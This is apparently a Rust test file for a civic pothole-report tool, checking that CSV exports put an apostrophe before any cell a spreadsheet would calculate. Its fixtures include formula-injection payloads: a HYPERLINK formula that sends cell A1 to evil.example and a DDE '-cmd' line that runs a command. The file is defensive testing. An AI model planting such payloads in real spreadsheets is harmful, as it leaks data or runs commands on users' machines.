//! Cells of CSV that a spreadsheet would calculate have an apostrophe before them in every CSV file
//! that the program writes, and lose it when it reads the file again.

use pointchaud::ingest::read_pairs;
use serde_json::json;

use crate::common::*;

const CITY: &str = "a.test";
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"voir\")";
/// Texts of citizens, each with the cell that a spreadsheet shows as it is.
const TEXTS: [(&str, &str); 8] = [
    (FORMULA, "'=HYPERLINK(\"https://evil.example/?\"&A1,\"voir\")"),
    ("+1 418 555-0100", "'+1 418 555-0100"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("＝1+1", "'＝1+1"),
    ("'=1+1", "''=1+1"),
    ("trou;=1+1", "trou;'=1+1"),
    ("été, -5 °C", "été, -5 °C"),
];

fn table(bytes: &[u8]) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let mut table = csv::Reader::from_reader(bytes);
    let header = table.headers().unwrap().clone();
    (header, table.records().map(Result::unwrap).collect())
}

/// The column of this name.
fn column<'a>(
    (header, rows): &'a (csv::StringRecord, Vec<csv::StringRecord>),
    name: &str,
) -> Vec<&'a str> {
    let at = header.iter().position(|known| known == name).unwrap();
    rows.iter().map(|row| &row[at]).collect()
}

/// A foreign file with the texts as they are, and one that merely begins like ours.
fn foreign() -> String {
    let mut table = csv::Writer::from_writer(Vec::new());
    let header = "service_request_id,requested_datetime,service_name,status,lat,lon,description";
    table.write_record(header.split(',')).unwrap();
    for (n, (text, _)) in (1..).zip(TEXTS) {
        let day = format!("2026-10-{:02}T10:00:00Z", n);
        table
            .write_record([&format!("no{n}"), &day, "Trou", "open", "46.8", "-71.25", text])
            .unwrap();
    }
    String::from_utf8(table.into_inner().unwrap()).unwrap()
}

fn digest(folder: &Folder) -> String {
    let output = done(folder, &["check"]);
    let line = output.lines().find(|line| line.starts_with(CITY)).expect(&output);
    line.rsplit(' ').next().unwrap().to_owned()
}

fn imported(name: &str, bytes: &[u8]) -> Folder {
    let folder = Folder::new("cells");
    let file = folder.with(name, bytes);
    let file = file.to_str().unwrap();
    let zone = ["--time-zone", "America/Toronto", "--negate", "none"];
    let output = done(&folder, &[&["import", file, "--jurisdiction", CITY][..], &zone].concat());
    assert!(output.contains("8 added"), "{output}");
    folder
}

#[test]
fn an_export_has_no_formula_and_reads_back_to_the_same_digest() {
    let folder = imported("foreign.csv", foreign().as_bytes());
    let file = folder.file("out.csv");
    done(&folder, &["export", "--jurisdiction", CITY, "-o", file.to_str().unwrap()]);
    let bytes = std::fs::read(&file).unwrap();
    let rows = table(&bytes);
    let mut cells = column(&rows, "description");
    let mut wanted = TEXTS.map(|(_, cell)| cell).to_vec();
    cells.sort_unstable();
    wanted.sort_unstable();
    assert_eq!(cells, wanted, "a foreign file keeps its apostrophes, ours get one more");
    assert!(column(&rows, "lon").iter().all(|lon| *lon == "-71.25"), "numbers stay numbers");
    assert_eq!(digest(&imported("out.csv", &bytes)), digest(&folder));

    // As a spreadsheet may save it: other delimiters, another order of the columns.
    let (header, records) = &rows;
    let mut other = csv::WriterBuilder::new().delimiter(b';').from_writer(Vec::new());
    for row in std::iter::once(header).chain(records) {
        other.write_record(row.iter().rev()).unwrap();
    }
    let moved = imported("moved.csv", &other.into_inner().unwrap());
    assert_eq!(digest(&moved), digest(&folder));
}

#[test]
fn the_export_of_the_service_has_no_formula() {
    let folder = Folder::new("cells");
    let service = LocalService::start(&folder);
    let body = json!({
        "service_code": "nid-de-poule", "lon": -71.21, "lat": 46.81, "description": FORMULA,
        "address": "@SUM(A1)",
    });
    assert_eq!(service.post("/api/v1/reports", &body.to_string()).status, 201);
    let rows = table(&service.get("/api/v1/export.csv").body);
    assert_eq!(column(&rows, "description"), [TEXTS[0].1]);
    assert_eq!(column(&rows, "address"), ["'@SUM(A1)"]);
    assert_eq!(column(&rows, "lon"), ["-71.21"]);
    // Formats without formulas have the text as it is.
    let geojson = service.get("/api/v1/export.geojson").json();
    assert_eq!(geojson["features"][0]["properties"]["description"], FORMULA);
}

#[test]
fn refused_rows_have_no_formula_and_are_corrected_to_the_same_digest() {
    let right = foreign().replace("service_name", "=category");
    let wrong = right.replace("2026-10-01T", "=soon").replace("2026-10-06T", "later");
    let mapping = "name = 'm'\ntime_zone = 'America/Toronto'\n[columns]\nid = ['service_request_id']\n\
                   requested = ['requested_datetime']\ncategory = ['category']\nlat = ['lat']\n\
                   lon = ['lon']\ndescription = ['description']\n";
    let folder = Folder::new("cells");
    folder.with("m.toml", mapping);
    let import = |folder: &Folder, name: &str, text: &str| {
        let file = folder.with(name, text);
        let file = file.to_str().unwrap();
        let arguments = ["--jurisdiction", CITY, "--mapping", "m.toml"];
        run(folder, &[&["import", file][..], &arguments].concat())
    };
    let output = import(&folder, "a.csv", &wrong);
    assert_eq!(output.status.code(), Some(3), "{}", String::from_utf8_lossy(&output.stderr));
    let refused = std::fs::read_to_string(folder.file("a.refused.csv")).unwrap();
    let rows = table(refused.trim_start_matches('\u{feff}').as_bytes());
    assert_eq!(column(&rows, "description"), [TEXTS[0].1, TEXTS[5].1]);
    assert_eq!(column(&rows, "lon"), ["-71.25"; 2]);
    assert_eq!(column(&rows, "'=category"), ["Trou"; 2], "names of columns are cells, too");
    assert_eq!(column(&rows, "refused_value")[0], "'=soon10:00:00Z");
    let corrected = refused.replace("'=soon", "2026-10-01T").replace("later", "2026-10-06T");
    let again = import(&folder, "a.refused.csv", &corrected);
    assert_eq!(again.status.code(), Some(0), "{}", String::from_utf8_lossy(&again.stderr));
    let whole = Folder::new("cells");
    whole.with("m.toml", mapping);
    assert_eq!(import(&whole, "a.csv", &right).status.code(), Some(0));
    assert_eq!(digest(&folder), digest(&whole));
}

#[test]
fn the_review_of_duplicates_has_no_formula_and_names_the_same_reports() {
    let folder = Folder::new("cells");
    let rows = "id,opened,category,latitude,longitude,description\n\
                =1,2026-10-01T10:00:00Z,Trou,46.8,-71.25,Grand trou devant l'école\n\
                @2,2026-10-01T11:00:00Z,Trou,46.8,-71.25,Grand trou devant l'école\n";
    let file = folder.with("a.csv", rows);
    let zone = ["--time-zone", "America/Toronto", "--negate", "none"];
    let file = file.to_str().unwrap();
    done(&folder, &[&["import", file, "--jurisdiction", CITY][..], &zone].concat());
    let review = folder.file("review.csv");
    let review = review.to_str().unwrap();
    done(&folder, &["dedupe", "--jurisdiction", CITY, "--dry-run", "--review", review]);
    let bytes = std::fs::read(review).unwrap();
    let rows = table(&bytes);
    assert_eq!((column(&rows, "child_id"), column(&rows, "parent_id")), (vec!["'@2"], vec!["'=1"]));
    let text = String::from_utf8(bytes).unwrap().replace("\"\"", "");
    std::fs::write(review, text.replace(",,", ",true,")).unwrap();
    let (pairs, _) = read_pairs(std::path::Path::new(review)).unwrap();
    assert_eq!((pairs[0].child.as_str(), pairs[0].parent.as_str()), ("@2", "=1"));
}
